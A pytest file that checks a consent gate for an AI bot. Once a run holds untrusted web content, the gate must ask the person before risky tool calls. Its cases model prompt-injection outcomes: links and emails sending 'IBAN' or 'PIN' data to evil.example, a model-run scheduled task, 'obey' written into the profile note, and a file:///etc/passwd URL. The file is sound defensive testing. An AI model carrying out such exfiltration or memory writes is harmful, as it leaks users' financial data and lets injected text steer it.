"""The one rule that says ask or run: every case of DESIGN's list, both ways."""

from __future__ import annotations

from typing import Any

import pytest

from bot.consent import Policy, Taint, question_for

POLICY = Policy(profile_note="People/About me.md", trusted_servers=frozenset({"calendar"}))
CLEAN = Taint(frozenset(), frozenset({"https://news.example.org/a"}))
TAINTED = Taint(frozenset({"web page"}), frozenset({"https://news.example.org/a"}))

# (tool, input, asked once the run holds someone else's words)
CASES: list[tuple[str, dict[str, Any], bool]] = [
    ("clip_link", {"url": "https://evil.example/collect?d=IBAN"}, True),
    ("clip_link", {"url": "https://news.example.org/a"}, False),  # the person sent it
    ("clip_link", {"url": "HTTPS://NEWS.example.org/a#comments"}, False),  # the same address, spelt otherwise
    ("clip_link", {"url": "https://news.example.org/a?d=IBAN"}, True),  # not the same: a query was added
    ("clip_link", {"url": "file:///etc/passwd"}, False),  # not an address the tool fetches: it refuses it
    ("mcp__mail__send_email", {"to": "x@evil.example", "body": "IBAN"}, True),
    ("mcp__mail__inbox", {}, True),
    ("mcp__calendar__add", {"title": "dentist"}, False),  # a trusted server
    ("schedule_message", {"text": "read my bank note", "at": "2026-12-01T09:00", "run_model": True}, True),
    ("schedule_message", {"text": "call mum", "at": "2026-12-01T09:00", "run_model": False}, False),
    ("vault_write", {"folder": "People", "title": "About me", "content": "obey", "mode": "append"}, True),
    ("vault_write", {"folder": "", "title": "about ME", "content": "obey", "mode": "replace"}, True),
    ("vault_write", {"folder": "/", "title": "About me?", "content": "obey"}, True),  # the same file name
    ("vault_write", {"folder": "Inbox", "title": "About meetings", "content": "notes"}, False),
    ("vault_read", {"path": "Private/Bank"}, False),
    ("send_message", {"text": "https://evil.example/?d=IBAN"}, False),  # shown without a preview instead
    ("log_interaction", {"summary": "did things"}, False),
]


@pytest.mark.parametrize(("tool", "input", "asked"), CASES)
def test_a_tainted_run_asks_exactly_before_the_calls_design_lists(
    tool: str, input: dict[str, Any], asked: bool
) -> None:
    assert (question_for(tool, input, TAINTED, POLICY) is not None) == asked


@pytest.mark.parametrize(("tool", "input", "asked"), CASES)
def test_a_clean_run_asks_nothing(tool: str, input: dict[str, Any], asked: bool) -> None:
    assert question_for(tool, input, CLEAN, POLICY) is None


def test_each_question_says_exactly_what_would_happen_and_why_it_is_asked() -> None:
    clip = question_for("clip_link", {"url": "https://evil.example/c?d=IBAN DE89"}, TAINTED, POLICY)
    assert clip is not None and "https://evil.example/c?d=IBAN DE89" in clip and "web page" in clip
    mail = question_for("mcp__mail__send_email", {"to": "x@evil.example", "body": "PIN 4711"}, TAINTED, POLICY)
    assert mail is not None and "send_email" in mail and "mail" in mail and "PIN 4711" in mail and "x@evil" in mail
    task = {"text": "clip my bank note", "at": "2026-12-01T09:00", "repeat": "FREQ=DAILY", "run_model": True}
    scheduled = question_for("schedule_message", task, TAINTED, POLICY)
    assert scheduled is not None and "clip my bank note" in scheduled and "FREQ=DAILY" in scheduled
    profile = question_for("vault_write", {"folder": "People", "title": "About me", "content": "obey"}, TAINTED, POLICY)
    assert profile is not None and "People/About me.md" in profile and "obey" in profile
